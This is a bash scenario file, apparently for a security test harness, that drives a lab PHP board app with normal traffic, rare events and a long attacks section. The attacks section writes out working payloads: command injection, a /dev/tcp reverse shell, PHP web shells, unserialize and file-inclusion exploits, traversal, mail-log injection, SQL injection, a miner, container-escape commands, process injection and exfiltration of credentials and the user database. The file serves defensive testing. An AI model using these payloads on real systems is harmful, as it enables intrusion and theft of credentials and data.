# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# Board, a PHP application under php-fpm: notes in sqlite, uploads, mail, a feed. nginx, which asks it
# by FastCGI, is a peer. Its sources are in services/php.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read these variables, and set others
set=development containers=(php) port=9000 data_directory=/srv/data
configuration_file=/etc/php/8.2/fpm/pool.d/www.conf configuration_comment='; edited'
health=(/usr/sbin/php-fpm8.2 -t)
image_packages=(php8.2-fpm php8.2-cli php8.2-sqlite3 msmtp diffutils curl bash coreutils findutils gzip dash
	mount util-linux base-files libc-bin tzdata hostname)
rare_own=(new_version new_page upstream_gone failing_script slow_script large_upload mail_host_gone
	new_extension console many_visitors)

image_prepare() {
	local tree=$1 e sapi
	mkdir -p "$tree"/srv/app/uploads "$tree"/srv/data/{history,exports} "$tree"/var/log/php \
		"$tree"/var/lib/php/sessions "$tree"/etc/php/8.2/{cli,fpm}/conf.d
	cp -r "$here"/services/php/app/. "$tree/srv/app/"
	cp "$here/services/php/pool.conf" "$tree/etc/php/8.2/fpm/pool.d/www.conf"
	cp "$here/services/php/msmtprc" "$tree/etc/"
	for sapi in cli fpm; do
		cp "$here/services/php/php.ini" "$tree/etc/php/8.2/$sapi/"
		echo zend_extension=opcache.so >"$tree/etc/php/8.2/$sapi/conf.d/10-opcache.ini"
		for e in pdo ctype fileinfo iconv posix tokenizer pdo_sqlite; do
			echo "extension=$e.so" >"$tree/etc/php/8.2/$sapi/conf.d/20-$e.ini"
		done
	done
	chroot "$tree" /usr/bin/php8.2 -d opcache.enable=0 -r 'chdir("/srv/app"); require "install.php";'
	php_pictures "$tree/srv/app/uploads"
	chown -R 33:33 "$tree"/srv "$tree"/var/log/php "$tree"/var/lib/php/sessions
}

# Pictures as far as their headers go, and bytes.
php_pictures() {
	local i
	for i in 1 2 3 4 5 6; do
		{
			printf '\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x40\0\0\0\x20\x08\x02\0\0\0'
			head -c "$((i * i * 9))K" /dev/urandom
		} >"$1/pic$i.png"
	done
}

container_fields() {
	arguments=(/usr/sbin/php-fpm8.2 --nodaemonize --fpm-config /etc/php/8.2/fpm/php-fpm.conf)
	environment+=(BOARD_KEY=key-of-the-board)
	volumes=(/srv/data /var/log/php)
}

peers() {
	upstream_start
	peer_start front nginx -c /etc/nginx/php-front.conf
}

upstream_start() {
	app_peer_start upstream 127.0.0.1
}

ready() {
	board /ping -f -o /dev/null
}

# ---- ordinary work ----

cookie='' # of who is signed in

# board PATH [CURL OPTION…]: through the web server.
board() {
	local path=$1
	shift
	client curl -sS --max-time 30 -b "$cookie" "$@" "http://$peer_address:8080$path"
}

# board_upload NAME TYPE: what comes on standard input.
board_upload() {
	client_stdin curl -sS --max-time 20 -o /dev/null -b "$cookie" -F "file=@-;filename=$1;type=$2" \
		"http://$peer_address:8080/upload.php"
}

# sign_in NAME PASSWORD
sign_in() {
	local answer
	answer=$(board /login.php -i -d "name=$1" -d "password=$2")
	grep -q '^Location: /index.php' <<<"$answer" || return 1
	cookie=$(sed -n 's/^Set-Cookie: \(PHPSESSID=[^;]*\).*/\1/Ip' <<<"$answer" | tail -n 1)
}

sign_in_any() {
	case $((RANDOM % 6)) in
	0 | 1) sign_in ann apple ;;
	2 | 3) sign_in bob banana ;;
	4) sign_in admin sunshine ;;
	5) sign_in ann "$(pick aple appel apple1)" ;;
	esac
}

some_text() {
	local i
	for i in $(seq "$(between 1 30)"); do
		echo "item $i: $(pick more less enough none) $(pick paper ink tea chairs)"
	done
}

request() {
	local n
	n=$(between 1 30)
	if [ -z "$cookie" ] || chance 12; then
		sign_in_any
	fi
	case $((RANDOM % 16)) in
	0 | 1) board /index.php -o /dev/null ;;
	2) board /index.php -G -o /dev/null -d "order=$(pick title owner changed)" -d "word=$(pick Note 7 zzz)" ;;
	3 | 4) board "/note.php?id=$n" -o /dev/null ;;
	5) board /note.php -o /dev/null --data-urlencode "title=$(pick Plan Offer) $n" \
		--data-urlencode "text=$(some_text)" ;;
	6) board /note.php -o /dev/null -d "id=$n" --data-urlencode "text=$(some_text)" ;;
	7) board /note.php -o /dev/null -d "id=$n" --data-urlencode "text=$(some_text)" &&
		board "/changes.php?id=$n&label=$(pick now after today)" -o /dev/null ;;
	8) board_upload "photo$n.png" image/png <"$images/php/srv/app/uploads/pic$(between 1 6).png" ;;
	9) board "/file.php?name=pic$(between 1 6).png" -o /dev/null ;;
	10 | 11) board "/page.php?name=$(pick help terms).html" -o /dev/null ;;
	12) board "/feed.php?topic=$(pick sport music chess)" -o /dev/null ;;
	13) board /settings.php -o /dev/null -c - -d "colour=$(pick light dark)" -d "length=$n" ;;
	14) board /export.php -o /dev/null ;;
	15) board_seldom "$n" ;;
	esac
}

# board_seldom NUMBER
board_seldom() {
	case $((RANDOM % 9)) in
	0 | 1 | 8) board /contact.php -o /dev/null --data-urlencode "text=$(some_text)" \
		-d "sender=$(pick ann bob zoe)@service.example" ;;
	2) board /note.php -o /dev/null -d "id=$((30 + $1))" -d delete=1 ;;
	3) board "/note.php?id=$((9000 + $1))" -o /dev/null ;;
	4) board /none.php -o /dev/null ;;
	5) board /status -o /dev/null ;;
	6) board_upload notes.txt text/plain <<<"no picture" ;;
	7) board /logout.php -o /dev/null ;;
	esac
}

# It executes itself again.
reload_service() {
	container_signal php USR2
}

administer() {
	local logs
	logs=$(volume_path php /var/log/php)
	session php /usr/bin/php8.2 /srv/app/install.php tidy || true
	mv "$logs/access.log" "$logs/access.log.1"
	container_signal php USR1
	sleep 1
	reload_service
}

# ---- rare events ----

# add_line PATH LINE: by a file that takes its place.
add_line() {
	local file
	file=$(image_path php "$1")
	cp -p "$file" "$file.new"
	echo "$2" >>"$file.new"
	mv "$file.new" "$file"
}

rare_new_version() {
	keep_file php /srv/app/index.php
	keep_file php /srv/app/version.php
	add_line /srv/app/index.php "echo '<!-- version 2 -->';"
	printf '<?php\necho "version 2";\n' >"$(image_path php /srv/app/version.php)"
	sleep 3
	board /version.php -o /dev/null
}

rare_new_page() {
	keep_file php /srv/app/pages/news.html
	echo '<h1>News</h1>' >"$(image_path php /srv/app/pages/news.html)"
	board '/page.php?name=news.html' -o /dev/null
}

rare_upstream_gone() {
	peer_stop upstream
	sleep 12
	upstream_start
}

# Errors of scripts, and scripts and classes that are not there.
rare_failing_script() {
	sign_in bob banana
	board '/index.php?order=nothing' -o /dev/null
	board '/page.php?name=none.html' -o /dev/null
	board /settings.php -b settings=nonsense -o /dev/null
	board /export.php -X PUT -o /dev/null
}

# Slower than is usual, so that it is written down; and so slow that it is ended.
rare_slow_script() {
	keep_file php /srv/app/slow.php
	keep_file php /srv/app/endless.php
	printf '<?php\nsleep(6);\necho "late";\n' >"$(image_path php /srv/app/slow.php)"
	printf '<?php\nwhile (true) { usleep(1000); }\n' >"$(image_path php /srv/app/endless.php)"
	board /slow.php -o /dev/null
	board /endless.php --max-time 25 -o /dev/null
}

# More than is kept in memory; and more than is taken.
rare_large_upload() {
	sign_in bob banana
	head -c 7000000 /dev/urandom | board_upload scan.png image/png
	head -c 8500000 /dev/zero | board_upload film.png image/png
	board '/file.php?name=scan.png' -o /dev/null
}

# Mail while the mail host does not answer.
rare_mail_host_gone() {
	peer_stop upstream
	board /contact.php -o /dev/null -d text=hello -d sender=ann@service.example
	upstream_start
}

rare_new_extension() {
	keep_file php /etc/php/8.2/fpm/conf.d/20-sockets.ini
	undo reload_service
	echo extension=sockets.so >"$(image_path php /etc/php/8.2/fpm/conf.d/20-sockets.ini)"
	reload_service
	sleep 3
}

rare_console() {
	session php /usr/bin/php8.2 -r 'echo PHP_VERSION; print_r(get_loaded_extensions()); echo php_ini_loaded_file();'
}

# More than there are processes for.
rare_many_visitors() {
	client ab -q -r -c 20 -n 400 "http://$peer_address:8080/page.php?name=help.html"
}

# ---- attacks ----

# upload_script NAME CODE: as a picture.
upload_script() {
	sign_in ann apple
	echo "<?php $2" | board_upload "$1" image/png
}

# changes_shell COMMANDS: by the label of a note's changes; their output on stdout.
changes_shell() {
	sign_in ann apple
	board /note.php -o /dev/null -d id=1 -d text=changed
	board /changes.php -G -d id=1 --data-urlencode "label=now /dev/null /dev/null; $1; :"
}

attack_command_injection() {
	harm exec /usr/bin/id
	harm read /etc/msmtprc
	changes_shell 'id; cat /etc/msmtprc' | tee "$stage/answer" | grep -q password-of
	grep -q uid=33 "$stage/answer"
}

attack_reverse_shell() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:4444"
	thief_shell 'id; ls /srv/app; exit'
	changes_shell "bash -c 'exec bash -i >/dev/tcp/$peer_address/4444 2>&1 <&1'"
	thief_got uid=33
}

attack_web_shell() {
	harm write /srv/app/uploads/thumb.php
	harm exec /usr/bin/id
	# shellcheck disable=SC2016 # the code is PHP
	upload_script thumb.php 'system($_GET["c"]);'
	board /uploads/thumb.php -G --data-urlencode 'c=id; uname -a' | grep -q uid=33
}

# A web shell that starts no program: it lists, reads and connects by itself.
attack_web_shell_quiet() {
	harm write /srv/app/uploads/thumb.php
	harm read /etc/msmtprc
	harm connect "$peer_address:4444"
	thief_begin
	# shellcheck disable=SC2016 # the code is PHP
	upload_script thumb.php 'eval($_POST["c"]);'
	board /uploads/thumb.php --data-urlencode "c=print_r(scandir('/etc'));
		fwrite(fsockopen('$peer_address', 4444), file_get_contents('/etc/msmtprc'));"
	thief_got password-of
}

# A draft in the cookie of the settings writes a script when it ends.
attack_unserialize() {
	local path=/srv/app/uploads/draft.php code text
	harm write "$path"
	harm exec /usr/bin/id
	# shellcheck disable=SC2016 # the code is PHP
	code='<?php passthru($_GET["c"]);'
	text="O:5:\"Draft\":2:{s:4:\"path\";s:${#path}:\"$path\";s:4:\"text\";s:${#code}:\"$code\";}"
	board /page.php -b "settings=$(printf %s "$text" | base64 -w 0)" -o /dev/null
	board /uploads/draft.php -G --data-urlencode 'c=id' | grep -q uid=33
}

# A picture with code in it is run by the help.
attack_inclusion() {
	harm read /srv/app/uploads/holiday.png
	harm exec /usr/bin/id
	upload_script holiday.png 'echo shell_exec("id; cat /etc/passwd");'
	board '/page.php?name=../uploads/holiday.png' | grep -q uid=33
}

attack_traversal() {
	harm read /etc/msmtprc
	sign_in ann apple
	board '/file.php?name=../../../etc/msmtprc' | grep -q password-of
}

# The mail program's log, with a sender that is a script, is written where scripts run.
attack_mail_injection() {
	harm write /srv/app/uploads/mail.php
	harm exec /usr/bin/id
	# shellcheck disable=SC2016 # the code is PHP
	board /contact.php -o /dev/null -d text=hello \
		--data-urlencode 'sender=<?=system($_GET[1])?> -X /srv/app/uploads/mail.php'
	board '/uploads/mail.php?1=id' | grep -q uid=33
}

attack_brute_force() {
	local p
	harm write /srv/data/exports/admin.csv
	for p in 123456 password qwerty letmein dragon monkey {1..60} football iloveyou master summer sunshine; do
		! sign_in admin "$p" || break
	done
	board /export.php -o /dev/null && board /index.php | grep -q 'Note'
	[ -n "$cookie" ]
}

attack_miner() {
	harm exec /tmp/.kworkerd
	harm connect "$peer_address:3333"
	armoury_begin
	changes_shell "$(miner_commands /tmp/.kworkerd)"
	pool_got
}

# By the application's own process.
attack_scan() {
	harm connect "$peer_address:22"
	harm connect "$peer_address:9100"
	# shellcheck disable=SC2016 # the code is PHP
	upload_script scan.php 'foreach (array_merge([21, 22, 25, 80, 443, 3306, 6379, 8000], range(9000, 9100)) as $p)
		if (@fsockopen("'"$peer_address"'", $p, $e, $t, 0.3)) echo "open $p\n";'
	board /uploads/scan.php | grep -q 'open 8000'
}

# By the programs that every image has.
attack_escape() {
	harm exec /usr/bin/unshare
	harm exec /usr/bin/nsenter
	harm exec /usr/bin/mount
	harm call mount
	harm call unshare
	changes_shell 'mount -t tmpfs none /mnt; mknod /tmp/disk b 8 0; nsenter -t 1 -m id;
		echo x >/proc/sys/kernel/core_pattern; echo 1 >/sys/fs/cgroup/release_agent;
		cat /proc/1/root/etc/shadow; unshare -Urm mount -t tmpfs none /mnt; echo tried all' | grep -q 'tried all'
}

# Code inside the first process, which is root: reads what only root may.
attack_code_shadow() {
	harm read /etc/shadow
	inject php 'php-fpm: master' 'print (int) open("/etc/shadow", 0)' | grep -qE '= [0-9]+'
}

# Code inside a process of the pool sends a file away; no program is started.
attack_code_connect() {
	harm read /etc/msmtprc
	harm connect "$peer_address:4444"
	thief_begin
	# shellcheck disable=SC2016 # the debugger's variables
	inject_pid "$(tasks_named php 'php-fpm: pool' | head -n 1)" 'set $a = (char *) malloc(256)' \
		'set {long} $a = 0x0100580a5c110002' 'set {long} ($a + 8) = 0' 'set $s = (int) socket(2, 1, 0)' \
		'print ((int (*)(int, char *, int)) connect)($s, $a, 16)' 'set $f = (int) open("/etc/msmtprc", 0)' \
		'print (long) read($f, $a, 250)' 'print (long) write($s, $a, 250)' \
		'print (int) close($f)' 'print (int) close($s)'
	thief_got password-of
}

# Notes of everybody, one after another, and the users' passwords by the order of the list. sqlite opens for
# writing what it reads.
adaptive_dump() {
	local n
	harm write /srv/data/board.db
	harm read '/srv/app/uploads/*.png'
	sign_in bob banana
	for n in $(seq 30); do
		board "/note.php?id=$n"
	done | grep -c '<h1>' | grep -qE '[0-9]{2}'
	for n in 1 2 3 4 5 6; do
		board "/file.php?name=pic$n.png" -o /dev/null
	done
	for n in a b c d e f g h i j k l m n o p q r s t u v w x y z; do
		board /index.php -o /dev/null -G --data-urlencode \
			"order=(SELECT password LIKE '\$2y\$05\$$n%' FROM users WHERE name = 'admin'), id"
	done
}

# run_inside CODE: by the application's own process, in a picture that the help runs.
run_inside() {
	upload_script "photo7.png" "$1"
	board '/page.php?name=../uploads/photo7.png'
}

# Everybody's notes, and the administrator's password, are written anew by the application itself.
adaptive_tamper() {
	harm write /srv/data/board.db
	harm write /srv/data/board.db-journal
	run_inside "board_rows(\"UPDATE notes SET text = 'sold'\"); board_rows(\"UPDATE users SET password =
		(SELECT password FROM users WHERE name = 'ann') WHERE name = 'admin'\");"
	sign_in admin apple
}

# The users' passwords, in a question for news.
adaptive_upstream() {
	harm write /srv/data/board.db
	harm connect "$peer_address:8000"
	run_inside "file_get_contents(UPSTREAM . '/feed?topic=' .
		urlencode(json_encode(board_rows('SELECT name, password FROM users'))));"
	until_true 10 grep -q 'topic=.*password' "$stage/peer-upstream.log"
}

# The same by mail, through the mail program.
adaptive_mail() {
	harm write /srv/data/board.db
	harm connect "$peer_address:2525"
	run_inside "echo mail('thief@peer.example', 'users', json_encode(board_rows('SELECT * FROM users')), '',
		'-f ann@service.example') ? 'was sent' : 'was not';" | grep -q 'was sent'
}
